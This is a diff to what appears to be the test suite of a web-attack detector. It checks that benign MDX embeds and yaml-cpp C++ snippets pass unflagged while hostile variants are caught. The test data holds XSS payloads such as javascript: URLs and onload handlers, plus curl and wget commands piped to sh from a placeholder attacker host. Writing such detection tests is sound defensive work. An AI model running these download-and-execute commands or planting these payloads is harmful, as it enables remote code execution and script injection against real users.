@@ -3654,3 +3654,22 @@ t.test('forty-second round: a JSON body cut in its last string, a JSON text ther
   const early = Buffer.from(JSON.stringify({ document: '{"a":"<img src=x onerror=alert(1)>', pad: 'x'.repeat(20_000) }))
   t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: early }).includes('xss'), 'an earlier field, cut by nothing, read as it came')
 })
+
+t.test("forty-second round, from the sixty-third and sixty-fourth parts: MDX's embedded sandboxes, a name that begins with a scheme's, C++'s operators", async (t) => {
+  const sandbox = '### Using the hook\n\nBelow we can see it called in a component.\n\n<iframe\n  src="https://codesandbox.io/embed/github/reduxjs/redux-toolkit/tree/master/examples/query/react/authentication?fontsize=12&hidenavigation=1&module=%2Fsrc%2Ffeatures%2Fauth%2FauthSlice.tsx&theme=dark&runonclick=1"\n  style={{\n    width: \'100%\',\n    height: \'800px\',\n    border: 0,\n    borderRadius: \'4px\',\n    overflow: \'hidden\',\n  }}\n  title="RTK Query Authentication Example"\n  allow="geolocation; microphone; camera; midi; vr; accelerometer; gyroscope; payment; ambient-light-sensor; encrypted-media; usb"\n  sandbox="allow-modals allow-forms allow-popups allow-scripts allow-same-origin"\n></iframe>\n'
+  t.same(json({ readme: sandbox }), [], "Redux Toolkit's embedded example")
+  // a style object with an assignment or a call is no embed's; nor a handler beside it
+  for (const style of ["style={{ width: '100%', onload=alert(1) }}", "style={{ background: url('javascript:alert(1)') }}", "style={{ width: '100%' }} onload=alert(1)"]) {
+    t.ok(json({ readme: sandbox.replace(/style=\{\{[^}]*\}\}/, style) }).includes('xss'), style)
+  }
+  t.same(json({ readme: '## Tabs\n\n<Tabs groupId="language" queryString defaultValue={constants.defaultJavaScriptSpecLanguage} values={constants.javaScriptSpecLanguages}>\n<TabItem value="typescript">\n' }), [], "MDX's tabs, a constant's name beginning with JavaScript")
+  for (const v of ['<a href=javascript:alert(1)>x</a>', '<animate attributeName=href values=javascript:alert(1) />', '<a href="jAvAsCrIpT:alert(1)">x</a>', '<iframe src="javascript\n:alert(1)">', '<a href=" javascript:alert(1)">x</a>']) t.ok(q(v).includes('xss'), v)
+  const emit = '#include "yaml-cpp/node/emit.h"\n#include "nodeevents.h"\n\nnamespace YAML {\nEmitter& operator<<(Emitter& out, const Node& node) {\n  EmitFromEvents emitFromEvents(out);\n  NodeEvents events(node);\n  events.Emit(emitFromEvents);\n  return out;\n}\n\nstd::string Dump(const Node& node) {\n  Emitter emitter;\n  emitter << node;\n  return emitter.c_str();\n}\n}  // namespace YAML\n'
+  t.same(json({ snippet: emit }), [], "yaml-cpp's output operators")
+  const regex = '// simplified regular expressions\n// . Only matches from start of string\nclass YAML_CPP_API RegEx {\n public:\n  RegEx();\n  explicit RegEx(char ch);\n  RegEx(const std::string& str, REGEX_OP op = REGEX_SEQ);\n  friend YAML_CPP_API RegEx operator!(const RegEx& ex);\n  friend YAML_CPP_API RegEx operator+(const RegEx& ex1, const RegEx& ex2);\n};\n'
+  t.same(json({ snippet: regex }), [], "yaml-cpp's RegEx class")
+  // bash runs `operator<(…)` and `operator>(…)` (process substitutions): those lines are read, and so is a command in any of them
+  for (const line of ['std::string& operator<(const x& a, curl http://evil.example/x.sh|sh& b);', 'x& operator>(wget http://evil.example/x -O- | sh& y)', 'Emitter& operator<<(Emitter& out, curl http://evil.example/x.sh | sh);']) {
+    t.ok(json({ snippet: emit + line + '\n' }).includes('rce'), line)
+  }
+})
